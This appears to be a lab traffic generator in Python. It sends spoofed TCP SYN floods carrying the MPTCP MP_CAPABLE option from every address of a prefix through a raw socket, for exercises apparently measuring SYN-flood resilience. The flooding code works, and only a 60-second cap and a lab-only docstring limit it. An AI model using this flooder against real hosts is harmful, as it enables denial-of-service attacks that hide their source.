"""Sends TCP SYNs with MP_CAPABLE at a given rate, from all addresses of a prefix.

For the labs `flood` and `syn-meter` only: it runs inside the namespace of a lab's host, uses that host's interface, and ends by
itself, or earlier on SIGTERM. Its last line: frames sent, and frames a second.

usage: flooding.py INTERFACE GATEWAY_MAC SOURCE_PREFIX DESTINATION PORT RATE SECONDS
"""

import ipaddress
import os
import signal
import socket
import sys
import time
from struct import pack

FRAMES = 60_000  # different 5-tuples. They are sent again and again, with other sequence numbers
OPTIONS = bytes.fromhex("020405b4 0402080a 00000001 00000000 01030307 1e040101".replace(" ", ""))
MOST_SECONDS = 60.0


def _sum(data: bytes) -> int:
    total = sum(int.from_bytes(data[i : i + 2], "big") for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def frame(
    own: bytes,
    gateway: bytes,
    src: bytes,
    dst: bytes,
    sport: int,
    dport: int,
    seq: int,
    flags: int = 0x02,
    options: bytes = OPTIONS,
) -> bytes:
    """One TCP segment as an Ethernet frame with IPv4: a SYN with MP_CAPABLE, or with other `flags` and `options`, whose
    length is a multiple of 4 bytes."""
    words = (20 + len(options)) // 4
    tcp = pack(">HHIIBBHHH", sport, dport, seq, 0, words << 4, flags, 65535, 0, 0) + options
    check = ~_sum(src + dst + pack(">HH", 6, len(tcp)) + tcp) & 0xFFFF
    tcp = tcp[:16] + pack(">H", check) + tcp[18:]
    ip = pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + src + dst
    ip = ip[:10] + pack(">H", ~_sum(ip) & 0xFFFF) + ip[12:]
    return gateway + own + b"\x08\x00" + ip + tcp


def main() -> int:
    interface, gateway, prefix, destination, port, rate, seconds = sys.argv[1:]
    wanted, limit = float(rate), min(float(seconds), MOST_SECONDS)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    own = out.getsockname()[4]
    hosts = [a.packed for a in list(ipaddress.IPv4Network(prefix).hosts())[2:]]
    target = ipaddress.ip_address(destination).packed
    mac = bytes.fromhex(gateway.replace(":", ""))
    frames = [
        frame(own, mac, hosts[n % len(hosts)], target, 1024 + n // len(hosts), int(port), n)
        for n in range(FRAMES)
    ]
    over: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: over.append(number))
    os.nice(19)  # a real attacker has machines of its own, so this one uses only time that others leave
    print("ready", flush=True)
    sent = 0
    start = time.monotonic()
    while not over and (gone := time.monotonic() - start) < limit:
        due = int(gone * wanted) - sent
        if due <= 0:
            time.sleep(0.001)
            continue
        for _ in range(min(due, 256)):
            try:
                out.send(frames[sent % FRAMES])
            except OSError:
                pass  # the interface's queue is full, and the frame is lost as on a real link
            sent += 1
    print(sent, round(sent / (time.monotonic() - start)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
